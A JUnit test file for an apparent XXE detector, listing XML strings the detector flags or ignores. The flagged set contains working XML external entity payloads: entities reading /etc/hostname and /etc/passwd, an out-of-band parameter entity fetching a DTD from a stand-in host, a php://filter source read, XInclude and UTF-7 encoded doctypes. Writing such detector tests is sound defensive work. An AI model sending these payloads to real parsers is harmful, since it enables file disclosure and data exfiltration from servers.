package dev.vigil.analyze.xxe;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Declarations written from the XML 1.0 specification (document type declaration, entity
 * declarations), the XInclude recommendation and the OWASP XXE cheat sheet, not from any corpus.
 * Values are in the rules' decoded form: case-folded.
 */
class XmlExternalEntityTest {

    @ParameterizedTest
    @ValueSource(strings = {
        // external general entity in an internal subset, read back through a reference
        "<?xml version=\"1.0\"?><!doctype note [<!entity ext system \"file:///etc/hostname\">]><note>&ext;</note>",
        // the doctype fetches the whole DTD from elsewhere
        "<!doctype note system \"https://dtd.example.net/note.dtd\"><note/>",
        "<!doctype note public \"-//acme//notes//en\" \"https://dtd.example.net/note.dtd\">",
        // an internal subset alone: entity expansion or a parameter entity follows
        "<!doctype lolz [<!element lolz (#pcdata)>]>",
        // parameter entity fetching an external DTD, referenced straight away (blind, out-of-band)
        "<!entity % remote system \"http://oob.example.net/x.dtd\"> %remote;",
        "<!entity % file system 'php://filter/convert.base64-encode/resource=index.php'>",
        // entity declarations without their doctype, injected into the middle of a document
        "<!entity ext public \"-//x//y\" \"http://dtd.example.net/y\">",
        "<!entity a \"aaaaaaaaaa\">",
        // a literal cut short where the query string split it at a raw &
        "<!doctype r [<!entity % p system \"http://dtd.example.net/?a=1",
        // XInclude, by prefix and by namespace
        "<xi:include href=\"file:///etc/hostname\" parse=\"text\"/>",
        "<doc xmlns:inc=\"http://www.w3.org/2001/xinclude\"><inc:include href=\"/etc/hostname\"/></doc>",
        // an XSLT the server fetches and runs
        "<?xml-stylesheet type=\"text/xsl\" href=\"https://xsl.example.net/t.xsl\"?><doc/>",
        // UTF-7, honoured by parsers that read the encoding declaration
        "<?xml version=\"1.0\" encoding=\"utf-7\"?>+adw-!doctype r system +aci-http://dtd.example.net/r+aci-+ad4-",
        // odd blanks between the parts
        "<!doctype\tr\nsystem\t'http://dtd.example.net/r.dtd'>",
        // a W3C public identifier whose system literal points elsewhere: the parser fetches the system literal
        "<!doctype svg public \"-//w3c//dtd svg 1.1//en\" \"http://dtd.example.net/svg11.dtd\">",
        "<!doctype html public '-//w3c//dtd xhtml 1.0 strict//en' 'file:///etc/passwd'>",
        // the other DTD declarations, sent on their own into a subset the application assembles
        "<!element note (to,from,heading,body)>",
        "<!element br empty>",
        "<!element\tcontainer any >",
        "<!attlist img src cdata #required>",
        "<!attlist order status (open|closed) \"open\">",
        "<!attlist person id id #implied>",
        "<!notation jpeg system \"image/jpeg\">",
        "<!notation vrml public 'vrml 1.0'>",
        "+adw-!element r any+ad4-",
    })
    void detects(String value) {
        assertThat(XmlExternalEntity.detect(value)).as(value).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<!doctype html><html><body>hi</body></html>",
        "<!doctype html public \"-//w3c//dtd xhtml 1.0 strict//en\" \"http://www.w3.org/tr/xhtml1/dtd/xhtml1-strict.dtd\">",
        "<!doctype svg public \"-//w3c//dtd svg 1.1//en\" \"http://www.w3.org/graphics/svg/1.1/dtd/svg11.dtd\">",
        "<!doctype html public \"-//w3c//dtd html 4.01//en\">", "<!doctype html public \"-//w3c//dtd html 4.01//en\" \"https://www.w3.org/tr/html4/strict.dtd\">",
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><order><id>7</id></order>",
        "<!-- a comment --><a href=\"x\">link</a>",
        "what is an xml entity declaration and how does <!doctype work",
        "doctype system public entity",
        "<!entity>", "<!doctype", "<!doctype >", "<include href=\"a\"/>", "<x:include/>",
        "<?xml-stylesheet type=\"text/css\" href=\"style.css\"?>",
        "a+b+adding+1", "c++ and +ad4", "",
        // declaration keywords in prose, or cut short before their grammar says what they are
        "<!element> and <!attlist> are dtd declarations", "<!element", "<!element note", "<!element note something>",
        "<!attlist img>", "<!attlist img src>", "<!attlist img src whatever>", "<!notation gif>",
        "<!notation gif system>", "<!elementary school>", "<!element(x)>",
    })
    void ignores(String value) {
        assertThat(XmlExternalEntity.detect(value)).as(value).isEmpty();
    }

    @Test
    void aUtf7DocumentIsReadAsUtf7() {
        // <!DOCTYPE r SYSTEM "http://dtd.example.net/r.dtd"> in one base64 run, as iconv writes it
        String run = "+ADwAIQBEAE8AQwBUAFkAUABFACAAcgAgAFMAWQBTAFQARQBNACAAIgBoAHQAdABwADoALwAvAGQAdABkAC4AZQB4"
                + "AGEAbQBwAGwAZQAuAG4AZQB0AC8AcgAuAGQAdABkACIAPg-";
        String raw = "%3C%3Fxml%20version%3D%221.0%22%20encoding%3D%22UTF-7%22%3F%3E" + run.replace("+", "%2B");
        String decoded = ("<?xml version=\"1.0\" encoding=\"utf-7\"?>" + run).toLowerCase();
        assertThat(XmlExternalEntity.detect(decoded, raw)).isPresent();
        // without the declaration the same bytes are not UTF-7 to a parser
        assertThat(XmlExternalEntity.detect(run.toLowerCase(), run.replace("+", "%2B"))).isEmpty();
        assertThat(Utf7.decode("a+-b+AGE-c")).isEqualTo("a+bac");
    }

    @Test
    void longHostileValuesStayLinear() {
        String[] shapes = {"<!doctype ", "<!entity % ", "<xi:include ", "<?xml-stylesheet href", "+adw-", "<"};
        for (String shape : shapes) {
            String value = shape.repeat(XmlExternalEntity.MAX_LEN / shape.length() + 1);
            long t = System.nanoTime();
            XmlExternalEntity.detect(value);
            // generous: a linear reader of 8 KB takes well under a millisecond
            assertThat(Duration.ofNanos(System.nanoTime() - t)).as(shape).isLessThan(Duration.ofMillis(500));
        }
    }
}
